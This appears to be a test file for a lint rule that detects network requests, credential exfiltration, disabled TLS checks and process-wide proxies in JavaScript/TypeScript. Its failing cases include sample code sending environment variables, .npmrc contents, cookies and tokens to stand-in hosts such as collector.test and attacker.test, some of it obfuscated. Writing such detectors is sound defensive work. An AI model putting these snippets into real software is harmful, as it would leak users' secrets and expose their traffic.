import rule from '../../../src/core/rules/ts/network-request';
import { ruleTester } from '../../ruleTester';

ruleTester(rule, {
  valid: [
    'const api = { fetch: (id) => db.get(id) }; api.fetch(1);',
    'this.http.get(url);',
    'function fetch(x) { return x } fetch(1);',
    'function f(fetch) { return fetch("https://x.test") }',
    "const url = 'https://example.com'; console.log(url);",
    'const m = new Map(); m.get("k");',
    'router.get("/users", handler);',
    'app.post("/login", (req, res) => res.send("ok"));',
    "import express from 'express'; const app = express(); app.get('/', (req, res) => res.send('hi'));",
    "import http from 'http'; const server = http.createServer(handler);",
    "import type { AxiosResponse } from 'axios'; let r: AxiosResponse;",
    "import { AxiosError } from 'axios'; function isErr(e: unknown): e is AxiosError { return false; }",
    "import { IncomingMessage } from 'http'; function body(req: IncomingMessage) { return req.url; }",
    "import axios from 'axios'; if (axios.isAxiosError(e)) { console.log(e.message); }",
    'const s = \'fetch("https://evil.test")\';',
    "import { STATUS_CODES } from 'http'; console.log(STATUS_CODES[404]);",
    "const regex = /x/; regex.exec('fetch');",
    // `.send` on things that are not connections, storage writes, cookies set rather than read.
    'function beacon(ws) { ws.send(sessionStorage.draft); }',
    "app.get('/', (req, res) => res.send(document.cookie));",
    'process.send({ type: "ready" });',
    "localStorage.setItem('theme', 'dark'); document.cookie = 'a=1';",
    "import dgram from 'dgram'; type S = dgram.Socket;",
    // Wrappers given ordinary data, and local functions that do not send their arguments.
    'function post(body) { return body; } post(process.env.API_KEY);',
    "import os from 'os'; function log(m) { console.log(m); } log(os.hostname());",
    "import os from 'os'; const host = os.hostname(); console.log(host);",
    'const agent = new https.Agent({ rejectUnauthorized: true, keepAlive: true });',
    "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '1';",
    "process.env.HTTPS_PROXY = '';",
    "const img = document.createElement('img'); img.alt = 'logo';",
    "const theme = localStorage.getItem('theme'); document.body.className = theme;",
  ],
  invalid: [
    {
      name: 'all incoming headers copied into an error report sent out (Hono)',
      code: 'export function reportError(c, err) {\n  const event = {\n    message: err.message,\n    headers: Object.fromEntries(c.req.raw.headers),\n  };\n  c.executionCtx.waitUntil(fetch(c.env.ERROR_SINK_URL, { method: "POST", body: JSON.stringify(event) }));\n}',
      filename: 'src/errors.ts',
      errors: [
        { messageId: 'headersSent', line: 4, category: 'secrets', severity: 'high' },
        { messageId: 'request', line: 6, category: 'network' },
      ],
    },
    {
      name: 'request headers spread into a payload, and Hono header() with no name',
      code: "import axios from 'axios';\napp.use(async (req, res, next) => {\n  await axios.post('https://hooks.example/audit', { path: req.url, meta: { ...req.headers } });\n  next();\n});\napp2.onError((err, c) => { fetch(SINK, { method: 'POST', body: JSON.stringify([err.message, c.req.header()]) }); });",
      errors: [
        { messageId: 'request', line: 3 },
        { messageId: 'headersSent', line: 3, category: 'secrets' },
        { messageId: 'request', line: 6 },
        { messageId: 'headersSent', line: 6, category: 'secrets' },
      ],
    },
    {
      name: 'JSON of the request headers in a body',
      code: "export async function handler(event) {\n  await fetch(process.env.LOG_URL, { method: 'POST', body: JSON.stringify({ h: JSON.stringify(event.headers) }) });\n}",
      errors: [
        { messageId: 'request', line: 2 },
        { messageId: 'headersSent', line: 2, category: 'secrets', severity: 'high' },
      ],
    },
    {
      name: 'not a headers copy: the outgoing request own headers forwarded (a proxy), one header, a relative address',
      code: "export async function proxy(req) {\n  await fetch(UPSTREAM + req.url, { headers: Object.fromEntries(req.headers) });\n  await fetch(SINK, { method: 'POST', body: JSON.stringify({ ua: req.headers['user-agent'], ray: req.headers['cf-ray'] }) });\n  await fetch('/api/log', { method: 'POST', body: JSON.stringify({ headers: req.headers }) });\n}",
      errors: [
        { messageId: 'request', line: 2 },
        { messageId: 'request', line: 3 },
        { messageId: 'request', line: 4, severity: 'low' },
      ],
    },
    {
      name: 'not a headers copy: a payload built in another function, minimal error event',
      code: "const event = { headers: 1 };\nexport function report(c, err) {\n  const ev = { message: err.message, route: c.req.routePath, ray: c.req.header('cf-ray') ?? null };\n  return fetch(c.env.SINK, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(ev) });\n}",
      errors: [{ messageId: 'request', line: 4 }],
    },
    {
      name: 'a stored token sent as the auth header of a request is not a credential in the body',
      code: "const token = await SecureStore.getItemAsync('auth_token'); await fetch('/api/me', { headers: { Authorization: `Bearer ${token}` } });",
      errors: [{ messageId: 'request', line: 1 }],
    },
    {
      name: 'a credential in a payload object built before the request',
      code: "import { config } from './config';\nconst payload = { message: 'x', bot: { auth: config.token } };\nawait fetch('https://hooks.example.net/errors', { method: 'POST', body: JSON.stringify(payload) });",
      errors: [
        { messageId: 'credentialSent', line: 2, category: 'secrets', severity: 'high' },
        { messageId: 'request', line: 3 },
      ],
    },
    {
      name: 'a token read from the device credential store sent to an analytics host',
      code: "import * as SecureStore from 'expo-secure-store';\nconst body = { name: 'x', session: await SecureStore.getItemAsync('auth_token') };\nfetch('https://collect.example.io/v1/events', { method: 'POST', body: JSON.stringify(body) });",
      errors: [
        { messageId: 'credentialSent', line: 2, category: 'secrets' },
        { messageId: 'request', line: 3 },
      ],
    },
    {
      code: "import https from 'node:https'; import { readFile } from 'node:fs/promises'; import os from 'node:os';\nconst rc = await readFile(os.homedir() + '/.npmrc', 'utf8');\nconst req = https.request({ host: '104.248.31.7', method: 'PUT' });\nreq.end(JSON.stringify({ rc }));",
      filename: 'scripts/release.mjs',
      errors: [
        { messageId: 'request', line: 3 },
        { messageId: 'sendExfil', line: 4, severity: 'high' },
      ],
    },
    {
      code: "await fetch('https://api.github.com/repos/x/y');",
      errors: [
        {
          messageId: 'request',
          line: 1,
          column: 7,
          severity: 'medium',
          message: '`fetch` sends a network request to `https://api.github.com/repos/x/y`.',
        },
      ],
    },
    { code: "const res = await fetch('/api/items');", errors: [{ messageId: 'request', severity: 'low' }] },
    {
      name: 'a credential the app holds, renamed in the body of a request to an outside host',
      code: "export async function record(app, stats) {\n  await fetch('https://hooks.insights.example.net/v1/delivery', {\n    method: 'POST',\n    body: JSON.stringify({ ...stats, client: app.client.token }),\n  });\n}",
      errors: [
        { messageId: 'request', line: 2 },
        {
          messageId: 'credentialSent',
          line: 4,
          category: 'secrets',
          severity: 'high',
          message:
            '`app.client.token`, a credential this code holds, is sent in the body of a request to `https://hooks.insights.example.net/v1/delivery`: whoever receives it can act with it.',
        },
      ],
    },
    {
      name: 'credentials to a sign-in or token endpoint, in auth headers, or to the own API are how those work',
      code: "await fetch('https://oauth2.example.com/token', { method: 'POST', body: JSON.stringify({ client_secret: cfg.clientSecret }) });\nawait fetch('https://api.example.com/v1/items', { headers: { Authorization: cfg.token } });\nawait fetch('/api/profile', { method: 'POST', body: JSON.stringify({ password: form.password }) });",
      errors: [
        { messageId: 'request', line: 1 },
        { messageId: 'request', line: 2 },
        { messageId: 'request', line: 3 },
      ],
    },
    {
      name: 'a template whose parts are all constant reads as the whole address',
      code: "const HOST = ['hooks', 'insights', 'example', 'net'].join('.');\nawait fetch(`https://${HOST}/v1/delivery`, { method: 'POST' });",
      errors: [
        { messageId: 'request', line: 2, message: '`fetch` sends a network request to `https://hooks.insights.example.net/v1/delivery`.' },
      ],
    },
    { code: 'const res = await fetch(`/api/items/${id}`);', errors: [{ messageId: 'request', severity: 'low' }] },
    { code: "const res = await fetch('http://localhost:3000/health');", errors: [{ messageId: 'request', severity: 'low' }] },
    { code: 'const res = await fetch(`${BASE_URL}/items`);', errors: [{ messageId: 'request', severity: 'medium' }] },
    { code: 'window.fetch(url);', errors: [{ messageId: 'request' }] },
    { code: "globalThis['fet' + 'ch'](url);", errors: [{ messageId: 'request' }] },
    { code: 'const f = fetch; f(url);', errors: [{ messageId: 'request' }] },
    { code: 'const { fetch: get } = globalThis; get(url);', errors: [{ messageId: 'request' }] },
    { code: 'fetch.call(null, url);', errors: [{ messageId: 'request' }] },
    { code: 'Reflect.apply(fetch, null, [url]);', errors: [{ messageId: 'request' }] },
    { code: 'const g = fetch.bind(globalThis); g(url);', errors: [{ messageId: 'request' }] },
    { code: '(0, fetch)(url);', errors: [{ messageId: 'request' }] },
    { code: 'globalThis.fetch?.(url);', errors: [{ messageId: 'request' }] },
    { code: 'function getFetch() { return fetch } getFetch()(url);', errors: [{ messageId: 'request' }] },
    { code: "globalThis[atob('ZmV0Y2g=')](url);", errors: [{ messageId: 'request' }] },
    { code: "import fetch from 'node-fetch'; await fetch(url);", errors: [{ messageId: 'request' }] },
    { code: "const fetch = require('node-fetch'); await fetch(url);", errors: [{ messageId: 'request' }] },
    {
      code: "import { fetch as uf, request } from 'undici'; await uf(url); await request(url);",
      errors: [{ messageId: 'request' }, { messageId: 'request' }],
    },
    { code: "import { Pool } from 'undici'; const pool = new Pool('http://10.0.0.2:8080');", errors: [{ messageId: 'request' }] },
    {
      code: "const https = require('node:https'); https.get('https://x.test/a', (res) => res.resume());",
      errors: [{ messageId: 'request' }],
    },
    {
      code: "import http from 'http'; const req = http.request({ hostname: 'api.test', port: 80, path: '/x' });",
      errors: [{ messageId: 'request', message: '`http.request` sends a network request to `api.test`.' }],
    },
    { code: "import * as h2 from 'http2'; const s = h2.connect('https://x.test');", errors: [{ messageId: 'request' }] },
    {
      code: "const net = require('net'); net.connect(4444, '203.0.113.9');",
      errors: [{ messageId: 'socket', message: '`net.connect` opens a network connection to `203.0.113.9`.' }],
    },
    { code: "import net from 'net'; const sock = net.createConnection({ host: 'h.test', port: 1 });", errors: [{ messageId: 'socket' }] },
    { code: "import net from 'net'; const s = new net.Socket(); s.connect(80, 'h.test');", errors: [{ messageId: 'socket' }] },
    { code: "import tls from 'tls'; tls.connect(443, 'h.test');", errors: [{ messageId: 'socket' }] },
    {
      code: "import dgram from 'dgram'; const s = dgram.createSocket('udp4'); s.send(msg, 53, '198.51.100.7');",
      errors: [{ messageId: 'udp', severity: 'medium' }, { messageId: 'socket' }],
    },
    {
      code: "const dgram = require('node:dgram');\nconst socket = dgram.createSocket('udp4');",
      errors: [
        {
          messageId: 'udp',
          line: 2,
          severity: 'medium',
          message:
            '`dgram.createSocket` creates a UDP socket: datagrams can go to any host and port without a connection, a common way to ship data out quietly.',
        },
      ],
    },
    { code: "import { createSocket as cs } from 'dgram'; const s = cs({ type: 'udp6' });", errors: [{ messageId: 'udp' }] },
    { code: "const d = require('dgram'); const s = new d.Socket();", errors: [{ messageId: 'udp' }] },
    { code: "const dns = require('dns'); dns.resolveTxt(`${data}.attacker.test`, () => {});", errors: [{ messageId: 'dns' }] },
    { code: "import { lookup } from 'node:dns/promises'; await lookup(host);", errors: [{ messageId: 'dns' }] },
    { code: "import dns from 'dns'; await dns.promises.resolve4(name);", errors: [{ messageId: 'dns' }] },
    { code: "import { Resolver } from 'dns'; const r = new Resolver(); r.resolve(name, cb);", errors: [{ messageId: 'dns' }] },
    { code: "const ws = new WebSocket('wss://stream.test/feed');", errors: [{ messageId: 'socket' }] },
    { code: "import WebSocket from 'ws'; const ws = new WebSocket('wss://x.test');", errors: [{ messageId: 'socket' }] },
    { code: "const { WebSocket: WS } = require('ws'); new WS(url);", errors: [{ messageId: 'socket' }] },
    { code: "import { io } from 'socket.io-client'; const s = io('https://x.test');", errors: [{ messageId: 'socket' }] },
    {
      code: "const xhr = new XMLHttpRequest(); xhr.open('POST', 'https://x.test/c'); xhr.send(body);",
      errors: [
        { messageId: 'request' },
        { messageId: 'send', severity: 'low', message: '`XMLHttpRequest().send` sends `body` over the network.' },
      ],
    },
    {
      code: "function reportSlow(durationMs) {\n  const Xhr = (window as any)['XMLHttp' + 'Request'];\n  const xhr = new Xhr();\n  xhr.open('POST', 'https://perf.test/slow', true);\n  xhr.send(JSON.stringify({ durationMs, page: location.pathname, c: document.cookie }));\n}",
      errors: [
        { messageId: 'exfil', line: 4, severity: 'high' },
        { messageId: 'sendExfil', line: 5, severity: 'high' },
      ],
    },
    {
      code: "const x = new window.XMLHttpRequest(); x.send(localStorage.getItem('token'));",
      errors: [{ messageId: 'sendExfil', severity: 'high' }],
    },
    {
      code: "const ws = new WebSocket('wss://x.test'); ws.onopen = () => ws.send('hi');",
      errors: [{ messageId: 'socket' }, { messageId: 'send' }],
    },
    {
      code: "import WebSocket from 'ws'; const ws = new WebSocket(u); ws.on('open', () => ws.send(JSON.stringify({ env: process.env })));",
      errors: [{ messageId: 'socket' }, { messageId: 'sendExfil', severity: 'high' }],
    },

    { code: 'export const xhr = new XMLHttpRequest();', errors: [{ messageId: 'client', severity: 'low' }] },
    { code: "navigator.sendBeacon('https://t.test/b', payload);", errors: [{ messageId: 'request' }] },
    { code: "const es = new EventSource('/events');", errors: [{ messageId: 'request', severity: 'low' }] },
    { code: "import axios from 'axios'; await axios.get('https://x.test');", errors: [{ messageId: 'request' }] },
    {
      code: "import axios from 'axios'; await axios({ method: 'post', url: 'https://x.test/y' });",
      errors: [{ messageId: 'request', message: '`axios` sends a network request to `https://x.test/y`.' }],
    },
    {
      code: "import axios from 'axios'; const api = axios.create({ baseURL: 'https://x.test' }); await api.get('/u');",
      errors: [{ messageId: 'request' }],
    },
    {
      code: "import axios from 'axios'; export const api = axios.create({ baseURL: 'https://x.test' });",
      errors: [{ messageId: 'client', severity: 'low' }],
    },
    { code: "const axios = require('axios').default; axios.post(u, d);", errors: [{ messageId: 'request' }] },
    { code: "import got from 'got'; await got.post(u, { json: d });", errors: [{ messageId: 'request' }] },
    { code: "import got from 'got'; await got(u);", errors: [{ messageId: 'request' }] },
    { code: "import superagent from 'superagent'; await superagent.post(u).send(d);", errors: [{ messageId: 'request' }] },
    { code: "const request = require('request'); request(u, cb);", errors: [{ messageId: 'request' }] },
    { code: "const needle = require('needle'); needle('post', u, d);", errors: [{ messageId: 'request' }] },
    { code: "import ky from 'ky'; await ky.post(u, { json: d });", errors: [{ messageId: 'request' }] },
    { code: "$.ajax({ url: 'https://x.test/a', type: 'POST' });", errors: [{ messageId: 'request' }] },
    { code: "$.post('/save', data);", errors: [{ messageId: 'request', severity: 'low' }] },
    { code: 'jQuery.getJSON(u);', errors: [{ messageId: 'request' }] },
    { code: "const { request: r } = require('node:https'); r(u).end();", errors: [{ messageId: 'request' }] },
    { code: "globalThis[Buffer.from('ZmV0Y2g=', 'base64').toString()](u);", errors: [{ messageId: 'request' }] },
    { code: 'globalThis[String.fromCharCode(102, 101, 116, 99, 104)](u);', errors: [{ messageId: 'request' }] },
    { code: 'self[`fetch`](u);', errors: [{ messageId: 'request' }] },
    { code: "import * as ax from 'axios'; ax.default.get(u);", errors: [{ messageId: 'request' }] },
    { code: "import axios from 'axios'; const p = axios.post.bind(axios); p(u, d);", errors: [{ messageId: 'request' }] },
    { code: "import axios from 'axios'; axios?.post?.(u, d);", errors: [{ messageId: 'request' }] },
    { code: "function client() { return require('axios') } client().post(u, d);", errors: [{ messageId: 'request' }] },
    { code: "const r = require; r('node-fetch')(u);", errors: [{ messageId: 'request' }] },
    { code: "module.require('axios').get(u);", errors: [{ messageId: 'request' }] },
    { code: "import { createRequire } from 'module'; createRequire(import.meta.url)('axios').get(u);", errors: [{ messageId: 'request' }] },
    {
      code: "async function leak() {\n  const key = process.env.AWS_SECRET_ACCESS_KEY;\n  await fetch('https://collector.test/k', { method: 'POST', body: key });\n}",
      errors: [
        {
          messageId: 'collected',
          line: 2,
          severity: 'high',
          message: '`process.env.AWS_SECRET_ACCESS_KEY` is gathered here and sent out by `fetch` on line 3.',
        },
        {
          messageId: 'exfil',
          line: 3,
          severity: 'high',
          message:
            '`fetch` sends a network request to `https://collector.test/k` in code that also reads `process.env.AWS_SECRET_ACCESS_KEY`: secret, file or machine data may flow into a network request.',
        },
      ],
    },
    {
      code: "const { get: httpsGet } = require('node:https');\nfunction check(v) {\n  const ctx = Buffer.from(JSON.stringify(process.env)).toString('base64url');\n  const req = httpsGet(`${URL}?v=${v}&ctx=${ctx}`, () => {});\n}",
      errors: [
        { messageId: 'collected', line: 3, severity: 'high' },
        { messageId: 'exfil', line: 4, severity: 'high' },
      ],
    },
    {
      code: 'async function f() {\n  const url = new URL(process.env.ID_TOKEN_REQUEST_URL);\n  return fetch(url.href, { headers: { Authorization: `Bearer ${process.env.ID_TOKEN}` } });\n}',
      errors: [{ messageId: 'exfil', line: 3, severity: 'medium' }],
    },
    {
      code: "function f() { const token = localStorage.getItem('jwt'); return fetch('/api/me', { headers: { Authorization: `Bearer ${token}` } }); }",
      errors: [{ messageId: 'exfil', severity: 'medium' }],
    },
    {
      code: "import axios from 'axios'; await axios.post(url, { key: process.env.AWS_SECRET_ACCESS_KEY });",
      errors: [{ messageId: 'exfil', severity: 'high' }],
    },
    {
      code: "await fetch('https://x.test', { method: 'POST', body: JSON.stringify(process.env) });",
      errors: [{ messageId: 'exfil', severity: 'high' }],
    },
    {
      code: "await fetch('https://x.test', { method: 'POST', body: JSON.stringify({ ...process.env }) });",
      errors: [{ messageId: 'exfil' }],
    },
    { code: "function f(name) { return fetch('https://x.test/?v=' + process.env[name]); }", errors: [{ messageId: 'exfil' }] },
    {
      code: "function f() { const { NPM_TOKEN } = process.env; return fetch('https://x.test/', { body: NPM_TOKEN }); }",
      errors: [{ messageId: 'exfil' }],
    },
    {
      code: "import fs from 'fs';\nexport async function sync() {\n  const data = fs.readFileSync('notes.txt', 'utf8');\n  await fetch('https://x.test/up', { method: 'POST', body: data });\n}",
      errors: [{ messageId: 'exfil', line: 4, severity: 'high' }],
    },
    {
      code: "import { readFile } from 'fs'; readFile(p, (err, buf) => { https.request(u).end(buf); });\nimport https from 'https';",
      errors: [{ messageId: 'exfil' }],
    },
    {
      code: 'const TOKEN = process.env.GH_TOKEN;\nexport async function send(u) { return fetch(u, { headers: { authorization: TOKEN } }); }',
      errors: [{ messageId: 'exfil', line: 2 }],
    },
    {
      code: "const TOKEN = process.env.SECRET_TOKEN;\nexport async function ping() { return fetch('https://status.test/ping'); }",
      errors: [{ messageId: 'request', line: 2, severity: 'medium' }],
    },
    {
      code: "export async function ask(q) { return fetch('https://api.openai.com/v1/chat/completions', { headers: { Authorization: `Bearer ${process.env.OPENAI_API_KEY}` }, body: q }); }",
      errors: [{ messageId: 'request', severity: 'medium' }],
    },
    {
      code: 'export async function complete(p) { const key = process.env.MODEL_API_KEY; return fetch(`${process.env.MODEL_URL}/v1`, { headers: { Authorization: `Bearer ${key}` }, body: p }); }',
      errors: [{ messageId: 'exfil', severity: 'medium' }],
    },
    {
      code: 'export async function complete(p) { const key = process.env.MODEL_API_KEY; return fetch(`${process.env.MODEL_URL}/v1?k=${key}`, { body: p }); }',
      errors: [{ messageId: 'exfil', severity: 'high' }],
    },
    {
      code: 'function load() { const port = process.env.PORT; return fetch(`http://localhost:${port}/x`); }',
      errors: [{ messageId: 'request' }],
    },
    { code: 'function load() { const u = process.env.API_URL; return fetch(u); }', errors: [{ messageId: 'request', severity: 'medium' }] },
    // Data handed to a function of this file that sends its argument.
    {
      code: "import os from 'node:os';\nimport WebSocket from 'ws';\nexport class Stream {\n  constructor(url) {\n    this.ws = new WebSocket(url);\n  }\n  hello() {\n    this.send({ type: 'hello', host: os.hostname(), user: os.userInfo().username });\n  }\n  send(msg) {\n    this.ws.send(JSON.stringify(msg));\n  }\n}",
      errors: [
        { messageId: 'socket', line: 5 },
        {
          messageId: 'wrappedExfil',
          line: 8,
          severity: 'high',
          message:
            '`this.send` hands `os.hostname()` to a function that sends its argument over the network (`this.ws.send(JSON.stringify(msg))`): the data leaves through the wrapper.',
        },
        { messageId: 'send', line: 11, severity: 'low', message: '`ws().send` sends `JSON.stringify(msg)` over the network.' },
      ],
    },
    {
      code: "function post(body) { return fetch('https://x.test/in', { method: 'POST', body }); }\nconst payload = JSON.stringify(process.env);\npost(payload);",
      errors: [
        { messageId: 'request', line: 1 },
        { messageId: 'wrappedExfil', line: 3, severity: 'high' },
      ],
    },
    {
      code: "import { hostname } from 'os'; const log = (m) => navigator.sendBeacon('/log', m); log(hostname());",
      errors: [{ messageId: 'request', severity: 'low' }, { messageId: 'wrappedExfil' }],
    },
    {
      code: "import os from 'os'; export async function report(e) { await fetch('https://errors.test/in', { method: 'POST', body: JSON.stringify({ e, host: os.hostname() }) }); }",
      errors: [{ messageId: 'exfil', severity: 'high' }],
    },
    // Image beacons, whole browser storage.
    {
      code: "const img = new Image();\nimg.src = 'https://t.test/p?c=' + encodeURIComponent(document.cookie);",
      errors: [{ messageId: 'exfil', line: 2, severity: 'high' }],
    },
    { code: 'const i = new window.Image(); i.src = `/pixel.gif?page=${page}`;', errors: [{ messageId: 'request', severity: 'low' }] },
    {
      code: "await fetch('https://x.test/s', { method: 'POST', body: JSON.stringify(localStorage) });",
      errors: [{ messageId: 'exfil', severity: 'high' }],
    },
    // Connections weakened for everyone: TLS checks off, a proxy for the whole process.
    {
      code: "import https from 'https'; const agent = new https.Agent({ rejectUnauthorized: false });",
      errors: [
        {
          messageId: 'tlsOff',
          severity: 'medium',
          message:
            '`rejectUnauthorized: false` turns off TLS certificate checks: anyone on the network path can read and change this traffic, keys and tokens included.',
        },
      ],
    },
    { code: 'const pool = new Pool({ ssl: { rejectUnauthorized: false } });', errors: [{ messageId: 'tlsOff' }] },
    { code: 'request({ url, strictSSL: false }, cb);', errors: [{ messageId: 'tlsOff' }] },
    {
      code: "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';",
      errors: [{ messageId: 'tlsOffGlobal', severity: 'high' }],
    },
    { code: "process.env['NODE_TLS_REJECT_' + 'UNAUTHORIZED'] = 0;", errors: [{ messageId: 'tlsOffGlobal' }] },
    {
      code: "spawn('node', ['x.js'], { env: { ...process.env, NODE_TLS_REJECT_UNAUTHORIZED: '0' } });",
      errors: [{ messageId: 'tlsOffGlobal' }],
    },
    { code: "import https from 'https'; https.globalAgent.options.rejectUnauthorized = false;", errors: [{ messageId: 'tlsOffGlobal' }] },
    {
      code: "process.env.HTTPS_PROXY = 'http://10.1.2.3:8080';",
      errors: [
        {
          messageId: 'proxy',
          severity: 'high',
          message:
            "`process.env.HTTPS_PROXY = 'http://10.1.2.3:8080'` routes every request of the process through `http://10.1.2.3:8080`: whoever runs that proxy sees and can change all traffic.",
        },
      ],
    },
    {
      code: 'const agent = new https.Agent({ rejectUnauthorized: false });',
      filename: 'test/server.test.ts',
      errors: [{ messageId: 'tlsOff', severity: 'low' }],
    },
    { code: "import axios from 'axios'; export default axios;", errors: [{ messageId: 'unfollowed', severity: 'low' }] },
    { code: "import * as https from 'https'; makeClient(https);", errors: [{ messageId: 'unfollowed' }] },
  ],
});
